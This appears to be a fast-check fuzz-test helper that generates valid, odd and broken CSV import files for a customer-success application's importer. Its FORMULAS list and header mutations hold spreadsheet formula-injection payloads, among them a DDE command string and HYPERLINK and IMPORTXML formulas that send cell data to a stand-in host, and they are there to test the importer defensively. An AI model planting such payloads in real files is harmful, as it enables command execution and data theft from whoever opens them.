import * as fc from 'fast-check';
import { LIFECYCLE_STAGES, SEGMENTS } from '../../../src/customer-success/companies/company.events';
import type { ImportKind } from '../../../src/customer-success/companies/commands/import-batch';
import { COMPANY_COLUMNS } from '../../../src/customer-success/companies/commands/import-companies/import-companies.dto';
import { CONTACT_COLUMNS } from '../../../src/customer-success/companies/commands/import-contacts/import-contacts.dto';
import { RELATIONSHIP_COLUMNS } from '../../../src/customer-success/companies/commands/import-relationships/import-relationships.dto';
import { SCORECARD_CSV_COLUMNS } from '../../../src/cli/commands/import/read-import-file';
import { nastyString, sometimes } from './fuzz-http';

/**
 * CSV import files for the fuzz soaks: a table (header + records) drawn per import kind, mostly with
 * plausible cells and sometimes with spreadsheet formulas, quotes, line breaks, huge fields, unknown or
 * repeated columns, ragged rows; then written out with LF, CRLF or CR line ends and an optional BOM,
 * or broken on purpose (an unterminated quote, garbage).
 */

export interface CsvTable {
  readonly kind: ImportKind;
  readonly header: string[];
  readonly records: string[][];
}

export const CSV_COLUMNS: Record<ImportKind, readonly string[]> = {
  companies: COMPANY_COLUMNS,
  relationships: RELATIONSHIP_COLUMNS,
  contacts: CONTACT_COLUMNS,
  scorecards: [...SCORECARD_CSV_COLUMNS, 'measure:Product usage', 'color:Product usage', 'comment:Product usage', 'measure:Support'],
};

export const FORMULAS = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1)', '@SUM(1+1)', '+1+1', '-2+3', '=1+1', '\t=1+1', '=IMPORTXML(CONCAT("http://x/",A2),"//a")'];

/** A plausible cell for a column (ids from `ids`, owner emails from `emails`). */
export function plausibleCell(column: string, ids: readonly string[], emails: readonly string[]): fc.Arbitrary<string> {
  if (column === 'company_id' || column.endsWith('_id')) return fc.oneof(fc.constantFrom(...ids), fc.stringMatching(/^[a-z][a-z0-9-]{0,20}$/));
  if (column === 'segment') return fc.constantFrom(...SEGMENTS, 'smb', 'Enterprise ', '');
  if (column === 'lifecycle_stage') return fc.constantFrom(...LIFECYCLE_STAGES, 'at risk', '');
  if (column === 'owner_email' || column === 'email') return fc.constantFrom(...emails, '', 'dana@acme.example');
  if (column === 'arr' || column === 'employees' || column === 'overall_score' || column.startsWith('measure:'))
    return fc.oneof(fc.integer({ min: 0, max: 2_000_000 }).map(String), fc.constantFrom('1,250,000', '12.5', '', '100'));
  if (column.endsWith('_date') || column === 'as_of')
    return fc.oneof(fc.date({ noInvalidDate: true, min: new Date('2000-01-01'), max: new Date('2100-01-01') }).map((d) => d.toISOString().slice(0, 10)), fc.constant(''));
  if (column === 'is_primary') return fc.constantFrom('yes', 'no', 'true', 'false', '');
  if (column === 'sentiment') return fc.constantFrom('positive', 'neutral', 'negative', '');
  if (column.startsWith('color:') || column === 'overall_color') return fc.constantFrom('Green', 'Yellow', 'Red', '');
  return fc.oneof(fc.constantFrom('Acme, Inc.', 'Globex', 'Dana "D" Scully', 'Ünïcode GmbH'), fc.stringMatching(/^[A-Za-z][A-Za-z ]{0,30}$/));
}

/** A cell that may be anything: formulas, quotes, line breaks, nasty strings, huge. */
export const wildCell: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...FORMULAS),
  fc.constantFrom('"', '""', 'a"b', '\n', '\r\n', 'line1\nline2', ',', ';', '\u0000', '\uFEFFbom'),
  nastyString,
);

/** Now and then one huge cell in a file (a field of 10-70 KB). */
export const hugeCell: fc.Arbitrary<string> = fc.integer({ min: 10_000, max: 70_000 }).map((n) => 'z'.repeat(n));

export function csvTable(kind: ImportKind, ids: readonly string[], emails: readonly string[]): fc.Arbitrary<CsvTable> {
  const known = CSV_COLUMNS[kind];
  const rest = known.filter((c) => c !== 'company_id');
  return fc
    .tuple(
      fc.subarray([...rest], { minLength: 0, maxLength: rest.length }),
      // Header mutations: an unknown column, a repeated one, an empty name, spelled as a spreadsheet would.
      sometimes(fc.constantFrom('notes', 'company_id', '', 'Company ID', '=cmd()', 'owner'), 8),
      fc.boolean(),
    )
    .chain(([columns, odd, pretty]) => {
      const header = ['company_id', ...columns, ...(odd === null ? [] : [odd])];
      const row = fc.tuple(...header.map((c) => fc.oneof({ weight: 8, arbitrary: plausibleCell(c, ids, emails) }, { weight: 1, arbitrary: wildCell })));
      // Now and then a ragged row (a cell too many or too few).
      const ragged = row.chain((cells) => fc.constantFrom(cells, cells.slice(0, -1), [...cells, 'extra']));
      const records = fc.array(fc.oneof({ weight: 40, arbitrary: row }, { weight: 1, arbitrary: ragged }), { maxLength: 6 });
      return fc.tuple(records, sometimes(fc.tuple(fc.nat(), fc.nat(), hugeCell), 30)).map(([list, huge]) => {
        const rows = list.map((r) => [...r]);
        if (huge && rows.length > 0) rows[huge[0] % rows.length][huge[1] % header.length] = huge[2];
        return {
          kind,
          header: pretty ? header.map((h) => h.replace(/_/g, ' ').replace(/\b\w/g, (c) => c.toUpperCase())) : header,
          records: rows,
        };
      });
    });
}

/** A cell quoted when it must be (or always). */
function cell(value: string, quoteAll: boolean): string {
  return quoteAll || /[",\r\n]/.test(value) || /^\s|\s$/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

export interface CsvStyle {
  readonly eol: '\n' | '\r\n' | '\r';
  readonly bom: boolean;
  readonly quoteAll: boolean;
}

export const csvStyle: fc.Arbitrary<CsvStyle> = fc.record({ eol: fc.constantFrom<CsvStyle['eol']>('\n', '\r\n', '\r'), bom: fc.boolean(), quoteAll: fc.boolean() });

export function writeCsv(table: CsvTable, style: CsvStyle): string {
  const lines = [table.header, ...table.records].map((r) => r.map((v) => cell(v, style.quoteAll)).join(','));
  return (style.bom ? '\uFEFF' : '') + lines.join(style.eol) + (lines.length > 0 ? style.eol : '');
}

/** A file broken on purpose: an unterminated quote, garbage bytes, a quote in an unquoted field. */
export const brokenCsv: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('company_id,name\nacme,"Acme\n', 'company_id,name\nacme,Ac"me\n', '\uFEFF\uFEFFcompany_id\nacme\n', 'company_id,name\r\nacme,"A"x"\r\n', '"', ',,,\n,,,', '\u0000\u0001\u0002'),
  fc.string({ unit: 'binary', maxLength: 300 }),
);
